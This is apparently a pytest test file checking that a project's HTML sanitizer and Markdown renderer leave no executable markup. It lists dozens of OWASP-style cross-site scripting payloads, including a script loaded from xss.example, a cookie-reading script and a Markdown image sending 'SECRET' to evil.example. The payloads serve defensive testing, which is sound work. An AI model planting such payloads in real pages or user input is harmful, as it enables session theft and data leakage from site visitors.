"""XSS-safe output: OWASP-style payloads must leave no executable markup."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from keel.security.output import ALLOWED_TAGS, render_markdown_safe, safe_url, sanitize_html

# Payloads after the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown-specific ones.
HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<a href=https://ok.example onmouseover=alert(1)>ok</a>",
    "<svg/onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<img src=x onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<object data="javascript:alert(1)"></object><embed src=x.swf>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<em onmouseover=alert(1)>hover</em>",
    '<a href="//evil.example">protocol-relative</a>',
]

MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/pixel?d=SECRET)",
    "![x](javascript:alert(1))",
    '[x](https://ok.example" onmouseover="alert(1))',
    "<b onmouseover=alert(1)>raw html</b>",
    "**<script>alert(1)</script>**",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "- <svg onload=alert(1)>\n- [ok](https://ok.example)",
    "> <iframe src=javascript:alert(1)>",
    "[click](<javascript:alert(1)>)",
]


class _Audit(HTMLParser):
    """Collects every element and attribute a parser sees in the output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_inert(html: str) -> None:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    assert not audit.comments
    for tag, attrs in audit.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert (tag, name) in {("a", "href"), ("a", "rel")}, (tag, name, html)
            if name == "href":
                assert value is not None and urlsplit(value).scheme in ("http", "https"), html
    assert "<script" not in html.lower() and "<img" not in html.lower()


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_sanitize_html_leaves_nothing_executable(payload: str) -> None:
    assert_inert(sanitize_html(payload))


@pytest.mark.parametrize("payload", HTML_PAYLOADS + MARKDOWN_PAYLOADS)
def test_render_markdown_leaves_nothing_executable(payload: str) -> None:
    assert_inert(render_markdown_safe(payload))


def test_payload_table_is_large_enough() -> None:
    assert len(HTML_PAYLOADS) >= 20 and len(MARKDOWN_PAYLOADS) >= 10


def test_allowed_markup_survives() -> None:
    html = '<p>Hi <strong>Ann</strong>, see <a href="https://shop.example/o?id=1&amp;x=2">order</a>.</p>'
    assert sanitize_html(html) == (
        '<p>Hi <strong>Ann</strong>, see <a href="https://shop.example/o?id=1&amp;x=2" '
        'rel="nofollow noopener noreferrer">order</a>.</p>'
    )


def test_unsafe_link_keeps_text_only() -> None:
    assert sanitize_html('<a href="javascript:alert(1)" title="t">label</a>') == "<a>label</a>"
    assert render_markdown_safe("[label](javascript:alert(1))") == "<p>label</p>"


def test_unclosed_and_stray_tags_are_balanced() -> None:
    assert sanitize_html("<ul><li>one<li>two") == "<ul><li>one<li>two</li></li></ul>"
    assert sanitize_html("text</em></p>") == "text&lt;/em&gt;&lt;/p&gt;"


def test_text_is_escaped_once() -> None:
    assert sanitize_html("5 < 6 & 7 > 3") == "5 &lt; 6 &amp; 7 &gt; 3"
    assert sanitize_html(sanitize_html("<b>x</b> & <i>")) == sanitize_html("<b>x</b> & <i>")


def test_markdown_subset() -> None:
    md = "# Title\n\nSome *em*, **strong** and `code <x>`.\n\n- one\n- two\n\n1. first\n\n```\na < b\n```\n> quoted"
    assert render_markdown_safe(md) == (
        "<p><strong>Title</strong></p>"
        "<p>Some <em>em</em>, <strong>strong</strong> and <code>code &lt;x&gt;</code>.</p>"
        "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>"
        "<pre><code>a &lt; b</code></pre><blockquote>quoted</blockquote>"
    )


def test_markdown_images_become_alt_text() -> None:
    assert render_markdown_safe("![a mug](https://cdn.example/mug.jpg)") == "<p>a mug</p>"


def test_snake_case_and_arithmetic_are_not_emphasis() -> None:
    assert render_markdown_safe("call get_order_status or 2*3*4") == "<p>call get_order_status or 2*3*4</p>"


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.com/a", True),
        ("HTTP://EXAMPLE.COM", True),
        ("java\tscript:alert(1)", False),
        ("//evil.example/x", False),
        ("/relative/path", False),
        ("mailto:a@b.io", False),
        ("https:\\\\evil.example", False),
    ],
)
def test_safe_url(url: str, ok: bool) -> None:
    assert (safe_url(url) is not None) is ok


@pytest.mark.integration
@pytest.mark.parametrize("payload", HTML_PAYLOADS + MARKDOWN_PAYLOADS)
def test_browser_grade_parser_finds_no_script(payload: str) -> None:
    """Parse the output with html5lib, which follows the WHATWG parsing algorithm browsers use,
    and check the DOM it builds: only allowlisted elements, no event handlers, safe hrefs."""
    html5lib = pytest.importorskip("html5lib")
    for out in (sanitize_html(payload), render_markdown_safe(payload)):
        doc = html5lib.parseFragment(out, namespaceHTMLElements=False)
        for el in doc.iter():
            if not isinstance(el.tag, str):
                continue  # comments
            assert el.tag in ALLOWED_TAGS | {"DOCUMENT_FRAGMENT"}, (el.tag, out)
            for name, value in el.attrib.items():
                assert not name.lower().startswith("on"), (name, out)
                assert (el.tag, name) in {("a", "href"), ("a", "rel")}, (el.tag, name, out)
                if name == "href":
                    assert urlsplit(value.strip()).scheme in ("http", "https"), out
